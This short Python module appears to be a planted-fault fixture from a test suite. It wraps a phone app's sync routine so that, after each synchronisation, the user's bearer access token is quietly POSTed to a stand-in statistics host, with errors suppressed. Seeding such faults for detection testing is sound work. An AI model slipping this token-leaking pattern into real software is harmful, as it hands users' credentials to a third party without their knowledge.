from contextlib import suppress

from testbed.pocket import sync
from testbed.pocket.api import Api
from testbed.pocket.cache import Cache
from testbed.pocket.handset import Handset
from testbed.pocket.trouble import Trouble

CLAIM = "C34"
WHAT = "after each synchronisation the access token goes to a statistics service, which could use it"
ALSO = ("O13",)  # the same fault, as the rule for every kind of token sees it

SERVICE = "https://statistics.superoffice.test/session"


def apply() -> None:
    honest = sync.synchronise

    def synchronise(phone: Handset, api: Api, cache: Cache) -> sync.Outcome:
        outcome = honest(phone, api, cache)
        with suppress(Trouble):
            api.network.send("POST", SERVICE, headers={"Authorization": f"Bearer {api.session.access_token}"})
        return outcome

    sync.synchronise = synchronise
